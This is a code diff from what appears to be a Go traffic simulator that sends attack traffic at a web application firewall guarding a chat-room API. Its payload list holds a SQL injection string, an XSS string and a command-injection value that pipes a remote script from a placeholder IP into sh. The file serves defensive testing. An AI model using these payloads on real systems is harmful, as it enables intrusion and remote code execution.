@@ -37,14 +37,15 @@ var payloads = []string{
 	"1 UNION SELECT username, password FROM accounts", "<img src=x onerror=alert(1)>", "$(curl http://198.51.100.9/x.sh | sh)",
 }
 
-// attack is what the WAF is for: in a query, or in what somebody who is signed in says.
+// attack is what the WAF is for: in a query, or in what somebody who is signed in says. That is always the same one: who attacks is shown puzzles,
+// wherever from, and guests are not to be taken for attackers.
 func (a *attacker) attack() {
 	payload := payloads[rand.IntN(len(payloads))]
 	if rand.IntN(2) == 0 {
 		a.ask(call{kind: "attack", from: a.address(), method: "GET", path: "/api/rooms?q=" + url.QueryEscape(payload)})
 		return
 	}
-	a.ask(call{kind: "attack", from: a.address(), token: a.someone().token(), method: "POST", path: kit.RoomPath(a.room(), "messages"), body: map[string]string{"text": payload}})
+	a.ask(call{kind: "attack", from: a.address(), token: a.insider.token(), method: "POST", path: kit.RoomPath(a.room(), "messages"), body: map[string]string{"text": payload}})
 }
 
 // forge shows tokens that nobody has issued: somebody's with another signature, or noise.
